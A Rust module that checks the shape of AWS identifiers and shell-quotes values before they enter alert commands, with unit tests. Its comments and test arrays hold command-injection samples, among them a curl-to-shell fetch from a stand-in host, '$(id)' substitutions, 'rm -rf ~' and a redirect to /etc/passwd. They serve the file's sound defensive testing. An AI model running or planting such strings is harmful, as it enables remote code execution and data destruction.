//! The shapes of the AWS identifiers that go into the commands and links of an alert.
//!
//! Every value in a command comes from a log line, the event around it or an API's configuration,
//! so any of them may be hostile (`123;curl${IFS}evil.example|sh;#` as an account id). A value is
//! put into a command only when it has its identifier's documented shape, which leaves no room for
//! a shell metacharacter; otherwise the command shows a placeholder such as `ACCOUNT_ID` for the
//! reader to fill in.

/// A 12-digit AWS account id.
pub fn is_account_id(s: &str) -> bool {
    s.len() == 12 && s.bytes().all(|b| b.is_ascii_digit())
}

/// A region code: two letters, one to three words, a number (`eu-west-1`, `us-gov-west-1`,
/// `cn-north-1`, `ap-southeast-4`, `us-isob-east-1`).
pub fn is_region(s: &str) -> bool {
    let parts: Vec<&str> = s.split('-').collect();
    let lower = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_lowercase());
    s.len() <= 32
        && (3..=5).contains(&parts.len())
        && parts[0].len() == 2
        && parts[..parts.len() - 1].iter().all(|p| lower(p))
        && parts[parts.len() - 1].len() <= 2
        && !parts[parts.len() - 1].is_empty()
        && parts[parts.len() - 1].bytes().all(|b| b.is_ascii_digit())
}

/// An ARN partition: `aws`, `aws-cn`, `aws-us-gov`, `aws-iso-b`, ...
pub fn is_partition(s: &str) -> bool {
    s.len() <= 16
        && s.strip_prefix("aws").is_some_and(|rest| {
            rest.split('-')
                .skip(1)
                .all(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_lowercase()))
                && (rest.is_empty() || rest.starts_with('-'))
        })
}

/// Lower-case alphanumerics, at most ten: API Gateway's API and authorizer ids (an API id is ten
/// long on AWS; local stand-ins make shorter ones).
fn is_gateway_id(s: &str) -> bool {
    (1..=10).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
}

/// An API Gateway API id.
pub fn is_api_id(s: &str) -> bool {
    is_gateway_id(s)
}

/// An API Gateway authorizer id.
pub fn is_authorizer_id(s: &str) -> bool {
    is_gateway_id(s)
}

/// A Lambda function name: letters, digits, `-` and `_`, at most 64
/// (<https://docs.aws.amazon.com/lambda/latest/api/API_CreateFunction.html>).
pub fn is_function_name(s: &str) -> bool {
    (1..=64).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// A version or alias: `$LATEST`, or letters, digits, `-` and `_` (at most 128).
fn is_qualifier(s: &str) -> bool {
    s == "$LATEST"
        || ((1..=128).contains(&s.len())
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'))
}

/// The parts of `arn:PARTITION:lambda:REGION:ACCOUNT:function:NAME[:QUALIFIER]`, unchecked:
/// partition, region, account, name and what follows the name.
pub fn function_arn_parts(s: &str) -> Option<(&str, &str, &str, &str, Option<&str>)> {
    let mut parts = s.splitn(8, ':');
    let mut next = || parts.next();
    let (arn, partition, lambda, region, account, function, name) = (
        next()?,
        next()?,
        next()?,
        next()?,
        next()?,
        next()?,
        next()?,
    );
    (arn == "arn" && lambda == "lambda" && function == "function").then_some((
        partition,
        region,
        account,
        name,
        next(),
    ))
}

/// `arn:PARTITION:lambda:REGION:ACCOUNT:function:NAME[:QUALIFIER]`.
pub fn is_function_arn(s: &str) -> bool {
    function_arn_parts(s).is_some_and(|(partition, region, account, name, qualifier)| {
        is_partition(partition)
            && is_region(region)
            && is_account_id(account)
            && is_function_name(name)
            && qualifier.is_none_or(is_qualifier)
    })
}

/// A resource-policy statement id: letters, digits, `-` and `_`, at most 100.
pub fn is_statement_id(s: &str) -> bool {
    (1..=100).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// `arn:PARTITION:execute-api:REGION:ACCOUNT:API_ID/authorizers/AUTHORIZER_ID` with every part
/// checked; a part without its shape becomes its placeholder.
pub fn authorizer_arn(
    partition: Option<&str>,
    region: Option<&str>,
    account: Option<&str>,
    api_id: Option<&str>,
    authorizer_id: Option<&str>,
) -> String {
    format!(
        "arn:{}:execute-api:{}:{}:{}/authorizers/{}",
        or(partition, is_partition, "aws"),
        or(region, is_region, "REGION"),
        or(account, is_account_id, "ACCOUNT_ID"),
        or(api_id, is_api_id, "API_ID"),
        or(authorizer_id, is_authorizer_id, "AUTHORIZER_ID"),
    )
}

/// Splits an authorizer source ARN into its parts, for [`authorizer_arn`] to check.
pub fn authorizer_arn_parts(arn: &str) -> [Option<&str>; 5] {
    let parts: Vec<&str> = arn.splitn(6, ':').collect();
    match parts.as_slice() {
        ["arn", partition, "execute-api", region, account, resource] => {
            let (api, authorizer) = resource
                .split_once("/authorizers/")
                .map_or((Some(*resource), None), |(a, b)| (Some(a), Some(b)));
            [
                Some(*partition),
                Some(*region),
                Some(*account),
                api,
                authorizer,
            ]
        }
        _ => [None; 5],
    }
}

/// `value` when it has the shape `valid` checks, else `placeholder`.
pub fn or<'a>(value: Option<&'a str>, valid: fn(&str) -> bool, placeholder: &'a str) -> &'a str {
    value.filter(|v| valid(v)).unwrap_or(placeholder)
}

/// One shell word: as it is when it holds only characters no shell treats specially, else in
/// single quotes (callers pass checked values, which never hold a quote; one that does is
/// replaced by `placeholder`).
pub fn shell_word<'a>(s: &'a str, placeholder: &'a str) -> std::borrow::Cow<'a, str> {
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"-_.:/=,@+".contains(&b);
    if !s.is_empty() && s.bytes().all(plain) {
        s.into()
    } else if !s.is_empty() && s.bytes().all(|b| b.is_ascii_graphic() && b != b'\'') {
        format!("'{s}'").into()
    } else {
        placeholder.into()
    }
}

/// A command line made only of words [`shell_word`] gives: nothing a shell would run, redirect
/// or expand. Commands are built that way; one that is not is not shown.
pub fn is_plain_command(cmd: &str) -> bool {
    cmd.split(' ').all(|word| {
        let inner = word
            .strip_prefix('\'')
            .and_then(|w| w.strip_suffix('\''))
            .filter(|w| !w.is_empty());
        match inner {
            Some(quoted) => quoted.bytes().all(|b| b.is_ascii_graphic() && b != b'\''),
            None => !word.is_empty() && shell_word(word, "") == word,
        }
    })
}

/// Values that must never reach a command line, next to the shapes they pretend to have.
/// CloudFormation stack names: a letter, then letters, digits and hyphens, at most 128 characters
/// (<https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/cfn-using-console-create-stack-parameters.html>).
pub fn is_stack_name(s: &str) -> bool {
    s.len() <= 128
        && s.bytes().next().is_some_and(|b| b.is_ascii_alphabetic())
        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

#[cfg(test)]
pub(crate) const HOSTILE: [&str; 13] = [
    "123;curl${IFS}evil.example|sh;#",
    "12345678901;",
    "12345678901$(id)",
    "1234567890123",
    "eu-west-1;id",
    "eu-west-1 --debug",
    "$(curl evil)",
    "a1b2c3d4e5`id`",
    "A1B2C3D4E5",
    "a1b2c3d4e5f",
    "a1b2c3d4e5\n",
    "x' ; rm -rf ~ ; '",
    "eu-west-1\u{2028}",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        type Shape = fn(&str) -> bool;
        let cases: [(Shape, &str, bool); 32] = [
            (is_account_id, "123456789012", true),
            (is_account_id, "12345678901", false),
            (is_account_id, "12345678901a", false),
            (is_region, "eu-west-1", true),
            (is_region, "us-gov-west-1", true),
            (is_region, "cn-north-1", true),
            (is_region, "ap-southeast-4", true),
            (is_region, "us-isob-east-1", true),
            (is_region, "eu-west", false),
            (is_region, "eu-west-100", false),
            (is_region, "EU-west-1", false),
            (is_region, "eu-west-1;", false),
            (is_region, "e-west-1", false),
            (is_partition, "aws", true),
            (is_partition, "aws-us-gov", true),
            (is_partition, "aws-iso-b", true),
            (is_partition, "awsx", false),
            (is_partition, "aws-", false),
            (is_api_id, "a1b2c3d4e5", true),
            (is_api_id, "a1b2c3d4e5f", false),
            (is_api_id, "A1b2c3d4e5", false),
            (is_api_id, "", false),
            (is_authorizer_id, "jw7k2m", true),
            (is_function_name, "orders-auth_2", true),
            (is_function_name, "orders.auth", false),
            (
                is_function_arn,
                "arn:aws:lambda:eu-west-1:123456789012:function:f",
                true,
            ),
            (
                is_function_arn,
                "arn:aws:lambda:eu-west-1:123456789012:function:f:live",
                true,
            ),
            (
                is_function_arn,
                "arn:aws:lambda:eu-west-1:123456789012:function:f:$LATEST",
                true,
            ),
            (
                is_function_arn,
                "arn:aws:lambda:eu-west-1:123456789012:function:f;id",
                false,
            ),
            (
                is_function_arn,
                "arn:aws:lambda:eu-west-1:12345678901x:function:f",
                false,
            ),
            (is_statement_id, "apigateway-authorizer-jw7k2m", true),
            (is_statement_id, "a b", false),
        ];
        for (check, value, want) in cases {
            assert_eq!(check(value), want, "{value:?}");
        }
        for bad in HOSTILE {
            for check in [
                is_account_id,
                is_region,
                is_api_id,
                is_authorizer_id,
                is_function_arn,
                is_partition,
            ] {
                assert!(!check(bad), "{bad:?}");
            }
        }
    }

    #[test]
    fn arns_take_placeholders_for_what_has_no_shape() {
        assert_eq!(
            authorizer_arn(
                Some("aws"),
                Some("eu-west-1"),
                Some("123;curl${IFS}evil.example|sh;#"),
                Some("a1b2c3d4e5"),
                None
            ),
            "arn:aws:execute-api:eu-west-1:ACCOUNT_ID:a1b2c3d4e5/authorizers/AUTHORIZER_ID"
        );
        let parts = authorizer_arn_parts(
            "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3d4e5/authorizers/jw7k2m",
        );
        assert_eq!(
            authorizer_arn(parts[0], parts[1], parts[2], parts[3], parts[4]),
            "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3d4e5/authorizers/jw7k2m"
        );
    }

    #[test]
    fn plain_commands() {
        let cases = [
            (
                "aws lambda add-permission --function-name 'arn:aws:lambda:eu-west-1:1:function:f:$LATEST' --x y",
                true,
            ),
            (
                "aws lambda add-permission --function-name f; curl evil.example|sh",
                false,
            ),
            ("aws x $(id)", false),
            ("aws x `id`", false),
            ("aws x\nid", false),
            ("aws  x", false),
            ("aws 'x' 'y'z'", false),
            ("aws x > /etc/passwd", false),
        ];
        for (cmd, want) in cases {
            assert_eq!(is_plain_command(cmd), want, "{cmd:?}");
        }
    }

    #[test]
    fn shell_words() {
        assert_eq!(shell_word("arn:aws:x/y", "P"), "arn:aws:x/y");
        assert_eq!(shell_word("f:$LATEST", "P"), "'f:$LATEST'");
        assert_eq!(shell_word("a'b", "P"), "P");
        assert_eq!(shell_word("a b", "P"), "P");
        assert_eq!(shell_word("", "P"), "P");
    }
}
